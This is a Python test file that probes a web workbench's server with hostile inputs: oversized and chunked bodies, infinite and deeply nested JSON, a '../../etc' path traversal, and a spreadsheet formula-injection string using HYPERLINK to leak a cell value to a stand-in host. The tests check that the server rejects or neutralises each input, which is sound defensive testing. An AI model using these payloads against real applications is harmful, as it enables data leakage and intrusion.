"""Hostile request bodies and hostile text against a real server, found by probing the
workbench as an outsider would: bodies other than uploads are held to the document limits
before FastAPI reads and parses them (even without credentials); validation errors never turn
into 500 (``1e999`` is infinity to Python's JSON reader, deep nesting out-recurses the
encoder); the scan route's JSON body goes through the bounded document reader; text that
starts with ``=`` stays text in the chain workbook (never a formula) and imports back equal;
the portfolio page's export and page links keep the search as it was typed."""

from __future__ import annotations

import io
import json
import re
import socket
import sys
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

pytest.importorskip("fastapi")

from gvckit.chain import read_chain
from webserver import BUNDLED, Server

sys.path.insert(0, str(Path(__file__).parent / "bad_inputs"))
from make_iati import HEAD, TAIL, activity

DOC_LIMIT = 1 << 16  # GVCKIT_DOC_MAX_BYTES and GVCKIT_BOOK_MAX_BYTES
OTHER_LIMIT = DOC_LIMIT + (1 << 16)  # what a body other than an upload may be
EXAMPLES = Path(__file__).resolve().parents[1] / "examples"
CHAIN = EXAMPLES / "chains" / "coffee_nicaragua_us_2009.yaml"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")'


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    tmp = tmp_path_factory.mktemp("hostile-bodies")
    root = tmp / "iati"
    root.mkdir()
    (root / "one.xml").write_text(HEAD + activity("XX-TEST-ONE") + TAIL, encoding="utf-8")
    env = {"GVCKIT_MAX_UPLOAD_MB": "4", "GVCKIT_DOC_MAX_BYTES": str(DOC_LIMIT),
           "GVCKIT_BOOK_MAX_BYTES": str(DOC_LIMIT),
           "GVCKIT_PORTFOLIO_ROOTS": str(root)}  # fmt: skip
    srv = Server(tmp / "data", f"sqlite:///{tmp / 'gvckit.db'}", env=env).start()
    yield srv
    srv.stop()


@pytest.fixture(scope="module")
def ana(server: Server) -> str:
    return server.add_user("ana", "analyst")


@pytest.fixture(scope="module")
def ws(server: Server, ana: str) -> int:
    with server.client(ana) as c:
        return int(c.post("/api/workspaces", json={"name": "Hostile"}).json()["id"])


def _chunked(server: Server, head: str, body: bytes) -> str:
    """POST ``body`` in 64 KiB chunks without a declared length; the status line."""
    with socket.create_connection(("127.0.0.1", server.port), timeout=30) as s:
        s.sendall((head + "Transfer-Encoding: chunked\r\n\r\n").encode())
        for k in range(0, len(body), 1 << 16):
            block = body[k : k + (1 << 16)]
            try:
                s.sendall(f"{len(block):x}\r\n".encode() + block + b"\r\n")
            except (BrokenPipeError, ConnectionResetError):
                break
        return s.recv(4096).decode("latin-1").split("\r\n", 1)[0]


def test_bodies_other_than_uploads_have_the_document_limit(server: Server, ana: str, ws: int
                                                           ) -> None:  # fmt: skip
    big = json.dumps({"name": "x", "pad": [1] * (OTHER_LIMIT // 2)}).encode()
    assert len(big) > OTHER_LIMIT
    with httpx.Client(base_url=server.url, timeout=60) as anon:
        # no credentials: refused for its size before it is read (it was parsed, then 401)
        r = anon.post("/api/workspaces", content=big, headers={"content-type": "application/json"})
        assert r.status_code == 413 and str(OTHER_LIMIT) in r.json()["detail"]
        form = {"name": "x", "password": "y" * (OTHER_LIMIT + 1)}
        assert anon.post("/login", data=form).status_code == 413
    head = ("POST /api/workspaces HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            "Content-Type: application/json\r\n")  # fmt: skip
    assert _chunked(server, head, big).startswith("HTTP/1.1 413")
    with server.client(ana) as c:
        r = c.post("/api/workspaces", content=big, headers={"content-type": "application/json"})
        assert r.status_code == 413
        r = c.post(f"/api/workspaces/{ws}/chains", content=b" " * (OTHER_LIMIT + 1),
                   headers={"content-type": "application/json"})  # fmt: skip
        assert r.status_code == 413
        assert [w["name"] for w in c.get("/api/workspaces").json()] == ["Hostile"]
        # uploads keep the upload limit (the table is larger than the other bodies' limit)
        assert BUNDLED.stat().st_size > OTHER_LIMIT
        with open(BUNDLED, "rb") as fh:
            r = c.post(f"/api/workspaces/{ws}/tables", files={"file": (BUNDLED.name, fh)})
        assert r.status_code == 201, r.text
        # a body within the limit is read as before
        r = c.post("/api/workspaces", json={"name": "y" * 200, "description": "d" * 5000})
        assert r.status_code == 201


def test_validation_errors_are_422_never_500(server: Server, ana: str, ws: int) -> None:
    deep = "[" * 500 + "]" * 500
    with server.client(ana) as c:
        for url in ("/api/workspaces", f"/api/workspaces/{ws}/members"):
            for body in ('{"name": 1e999}', '{"user": -1e999, "role": NaN}',
                         '{"name": ' + deep + "}", '{"user": ' + deep + "}"):  # fmt: skip
                r = c.post(url, content=body, headers={"content-type": "application/json"})
                assert r.status_code == 422, (url, body[:30], r.text)
                assert r.json()["detail"] and all("loc" in e for e in r.json()["detail"])
        r = c.post("/api/workspaces", content='{"name": 1e999}',
                   headers={"content-type": "application/json"})  # fmt: skip
        assert r.json()["detail"][0]["loc"] == ["body", "name"]
        assert r.json()["detail"][0]["input"] == "inf"
        # a long input is not sent back whole
        r = c.post("/api/workspaces", json={"name": "n" * 5000})
        assert r.status_code == 422 and len(r.content) < 1000
        assert r.json()["detail"][0]["loc"] == ["body", "name"]
        assert [w["name"] for w in c.get("/api/workspaces").json()] == ["Hostile", "y" * 200]


def test_scan_path_body_is_read_within_the_document_limits(server: Server, ana: str, ws: int
                                                           ) -> None:  # fmt: skip
    url = f"/api/workspaces/{ws}/portfolio/scans"
    with server.client(ana) as c:
        for body, says in (("[" * 5000 + "]" * 5000, "deep"), ('{"a":' * 5000 + "1" + "}" * 5000,
                           "deep"), ("not json", "JSON"), ("", "empty")):  # fmt: skip
            r = c.post(url, content=body, headers={"content-type": "application/json"})
            assert r.status_code == 422, (body[:20], r.text)
            assert says in r.json()["detail"], r.json()
        r = c.post(url, json={"path": "../../etc"})
        assert r.status_code == 422 and "configured scan root" in r.json()["detail"]
        r = c.post(url, json={"path": "one.xml"})
        assert r.status_code == 202
        assert server.wait_job(c, r.json()["job"])["status"] == "done"


def test_text_like_a_formula_stays_text_in_the_chain_workbook(server: Server, ana: str, ws: int
                                                              ) -> None:  # fmt: skip
    from openpyxl import load_workbook

    data = json.loads(read_chain(CHAIN).to_json())
    data["name"], data["product"] = FORMULA, "=1+1"
    with server.client(ana) as c:
        r = c.post(f"/api/workspaces/{ws}/chains", json=data)
        assert r.status_code == 201, r.text
        book = c.get(f"/api/chains/{r.json()['id']}/export", params={"format": "xlsx"})
        assert book.status_code == 200
        cells = [cell for sheet in load_workbook(io.BytesIO(book.content))
                 for row in sheet.iter_rows() for cell in row]  # fmt: skip
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert {FORMULA, "=1+1"} <= {cell.value for cell in cells}
        back = c.post(f"/api/workspaces/{ws}/chains",
                      files={"file": ("chain.xlsx", book.content)})  # fmt: skip
        assert back.status_code == 201, back.text
        again = c.get(f"/api/chains/{back.json()['id']}").json()
        assert again == c.get(f"/api/chains/{r.json()['id']}").json()
        assert again["name"] == FORMULA


def test_portfolio_links_keep_the_search_as_typed(server: Server, ana: str, ws: int) -> None:
    with httpx.Client(base_url=server.url, timeout=60) as c:
        nonce = re.search(r'name="csrf_token" value="([^"]+)"', c.get("/login").text)
        assert nonce is not None
        r = c.post("/login", data={"name": "ana", "password": "password-ana",
                                   "csrf_token": nonce.group(1)})  # fmt: skip
        assert r.status_code == 303
        page = c.get(f"/workspaces/{ws}/portfolio", params={"q": "R&D #1 + 'x'"}).text
        links = re.findall(r'href="(/api/workspaces/\d+/portfolio/export\?[^"]+)"', page)
        assert len(links) == 2
        for link in links:
            url = httpx.URL(link.replace("&amp;", "&"))
            assert url.params["q"] == "R&D #1 + 'x'" and "D #1 " not in url.params
            assert url.params["format"] in ("csv", "xlsx")
